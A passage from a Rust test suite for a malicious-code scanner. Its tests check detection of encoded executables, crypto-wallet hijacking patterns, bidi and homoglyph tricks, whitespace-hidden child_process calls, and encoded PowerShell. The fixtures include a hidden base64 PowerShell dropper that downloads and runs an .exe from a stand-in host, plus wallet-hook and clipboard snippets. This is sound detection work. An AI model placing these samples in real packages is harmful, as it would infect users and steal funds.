        assert_eq!(
            url_host("https://user:pw@Evil.COM:443/p"),
            Some("evil.com".into())
        );
    }

    #[test]
    fn blobs_and_decoded_executables() {
        let mut elf = vec![0x7f, b'E', b'L', b'F', 2, 1, 1];
        elf.extend((0..300u32).map(|i| (i * 7 % 251) as u8));
        let b64 = base64::engine::general_purpose::STANDARD.encode(&elf);
        let src = format!("var payload = \"{b64}\";\n");
        let mut out = Vec::new();
        text_signals("p.js", &src, &mut out);
        let blob = out
            .iter()
            .find(|s| s.signal == ids::BASE64_BLOB)
            .expect("blob");
        assert!(blob.detail.contains("decodes to ELF"), "{}", blob.detail);
        assert_eq!(blob.value, Some(b64.len() as f64));
        let hex: String = elf.iter().map(|b| format!("{b:02x}")).collect();
        let ids = ids_of("h.py", &format!("x = '{hex}'\n"));
        assert!(ids.contains(&ids::HEX_BLOB.to_string()));
        assert!(!ids.contains(&ids::BASE64_BLOB.to_string()), "{ids:?}");
        // A long identifier-like path is not a blob.
        let path = "a/".repeat(150);
        assert!(
            !ids_of("x.js", &format!("require('{path}')")).contains(&ids::BASE64_BLOB.to_string())
        );
        let srcmap = format!("//# sourceMappingURL=data:application/json;base64,{b64}\n");
        assert!(!ids_of("m.js", &srcmap).contains(&ids::BASE64_BLOB.to_string()));
    }

    #[test]
    fn wallet_patterns() {
        let src = r#"const p = { eth: /\b0x[a-fA-F0-9]{40}\b/g, btc: /\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g, trx: /T[1-9A-HJ-NP-Za-km-z]{33}/g };
if (window.ethereum) { window.ethereum.request({ method: 'eth_sendTransaction' }); }
XMLHttpRequest.prototype.open = function () {};
navigator.clipboard.writeText(x);"#;
        let ids = ids_of("w.js", src);
        for id in [ids::WALLET_REGEX, ids::WALLET_HOOK, ids::CLIPBOARD_ACCESS] {
            assert!(ids.contains(&id.to_string()), "{id} missing in {ids:?}");
        }
        let mut out = Vec::new();
        text_signals("w.js", src, &mut out);
        let w = out
            .iter()
            .find(|s| s.signal == ids::WALLET_REGEX)
            .expect("wallet");
        assert!(w.value.unwrap_or(0.0) >= 3.0, "{w:?}");
        let benign = "const s = fetch(url).then(r => r.json()); const copy = arr.slice();";
        let ids = ids_of("b.js", benign);
        assert!(ids.is_empty(), "{ids:?}");
        assert!(ids_of(
            "a.js",
            "const to = '0x52908400098527886E0F7030069857D2E4169EE7';"
        )
        .contains(&ids::WALLET_ADDRESS.to_string()));
    }

    #[test]
    fn unicode_tricks_found() {
        let src = "const isAdmin = false;\nif (isAdmin\u{202E} \u{2066}// check\u{2069}) {}\n";
        let mut out = Vec::new();
        text_signals("b.js", src, &mut out);
        let b = out
            .iter()
            .find(|s| s.signal == ids::BIDI_CONTROL)
            .expect("bidi");
        assert_eq!(b.line, Some(2));
        assert_eq!(b.value, Some(3.0));
        // Cyrillic 'а' (U+0430) inside a Latin identifier.
        let ids = ids_of("h.js", "const p\u{0430}ssword = 1;\n");
        assert!(ids.contains(&ids::HOMOGLYPH_IDENTIFIER.to_string()));
        // Pure Russian text and emoji are fine.
        let ids = ids_of("r.js", "const msg = 'Привет мир 👍\u{FE0F}';\n");
        assert!(ids.is_empty(), "{ids:?}");
        assert!(
            ids_of("z.js", "let a\u{200B}b = 1;").contains(&ids::INVISIBLE_CHARACTER.to_string())
        );
    }

    #[test]
    fn long_lines_only_outside_minified_files() {
        let mut src = String::new();
        for i in 0..100 {
            src.push_str(&format!("const v{i} = {i};\n"));
        }
        let table = format!("const t = [{}];\n", "1, ".repeat(500));
        assert!(!ids_of("a.js", &format!("{src}{table}")).contains(&ids::LONG_LINE.to_string()));
        let digits = format!("const r = [{}];\n", "1, 22, 333, ".repeat(1000));
        assert!(!ids_of("a.js", &format!("{src}{digits}")).contains(&ids::LONG_LINE.to_string()));
        let hidden: String = (0..300)
            .map(|i| {
                format!(
                    "q{i}.push(String.fromCharCode({}),Zt[{}]);",
                    i * 7 % 256,
                    i * 13 % 97
                )
            })
            .collect();
        src.push_str(&hidden);
        src.push('\n');
        assert!(ids_of("a.js", &src).contains(&ids::LONG_LINE.to_string()));
        let minified = format!("!function(e){{{}}}();", "var a=e.b,c=d(a);".repeat(400));
        assert!(!ids_of("m.js", &minified).contains(&ids::LONG_LINE.to_string()));
        let padded = format!(
            "module.exports = 1;{}require('child_process').exec('x')\n",
            " ".repeat(300)
        );
        assert!(ids_of("p.js", &padded).contains(&ids::WHITESPACE_PADDING.to_string()));
    }

    #[test]
    fn encoded_powershell_that_downloads_and_runs_is_a_dropper() {
        let src = "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgAC0AVQByAGkAIAAiAGgAdAB0AHAAcwA6AC8ALwBkAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBzAC8AeAAvAFUAcABkAGEAdABlAC4AZQB4AGUAPwBkAGwAPQAwACIAIAAtAE8AdQB0AEYAaQBsAGUAIAAiAH4ALwBXAGkAbgBkAG8AdwBzAEMAYQBjAGgAZQAuAGUAeABlACIAOwAgAEkAbgB2AG8AawBlAC0ARQB4AHAAcgBlAHMAcwBpAG8AbgAgACIAfgAvAFcAaQBuAGQAbwB3AHMAQwBhAGMAaABlAC4AZQB4AGUAIgA=', shell=False)\n";
        let mut out = Vec::new();
        text_signals("setup.py", src, &mut out);
        let s = out
            .iter()
            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
            .expect("signal");
        assert_eq!(s.value, Some(3.0), "{}", s.detail);
        assert!(
            s.detail.contains("decoded: powershell Invoke-WebRequest"),
            "{}",
            s.detail
        );
        // Hidden and encoded, but it only prints: no dropper.
        let src = "os.system('powershell -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAGYAcgBvAG0AIABhACAAYgB1AGkAbABkACAAcwB0AGUAcAAiAA==')\n";
        let mut out = Vec::new();
        text_signals("build.py", src, &mut out);
        let s = out
            .iter()
            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
            .expect("signal");
        assert_eq!(s.value, Some(2.0), "{}", s.detail);
        assert!(s.detail.contains("hello from a build step"), "{}", s.detail);
    }

    #[test]
    fn encoded_and_hidden_powershell() {
        let src = "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8Aaw==', shell=False)\n";
        let mut out = Vec::new();
        text_signals("setup.py", src, &mut out);
        let s = out
            .iter()
            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
            .expect("signal");
        assert_eq!(s.value, Some(2.0));
        assert_eq!(s.line, Some(1));
        let ids = ids_of(
            "a.js",
            "spawn('powershell', ['-NoProfile', '-Command', 'Get-Clipboard'])\n",
        );
        assert!(
            !ids.contains(&ids::ENCODED_SHELL_COMMAND.to_string()),
            "{ids:?}"
        );
    }

    #[test]
    fn bidi_in_long_data_lines_is_data() {
        let table = format!("const t = '{}\u{202E}';\n", "ab,".repeat(400));
        let ids = ids_of("t.js", &table);
        assert!(!ids.contains(&ids::BIDI_CONTROL.to_string()), "{ids:?}");
    }

    #[test]
    fn runs_padding_and_base64_spans() {
        let b64 = "QUJD".repeat(60);
        let src = format!("x = '{b64}==';\nid = '{}';\n", "a".repeat(250));
        let r = base64_runs(&src, &blob_spans(&src));
        assert_eq!(r.len(), 2);
        assert_eq!(r[0].as_str(), format!("{b64}=="));
        assert_eq!(r[0].start(), 5);
        assert_eq!(runs("ab", |b| b == b'a', 1, false).len(), 1);
        let pad = format!("ok();{}evil();\n", " ".repeat(200));
        assert_eq!(padding(pad.as_bytes()), Some((4, 206)));
        assert_eq!(
            padding(format!("ok();{}\n", " ".repeat(200)).as_bytes()),
            None
        );
    }
}
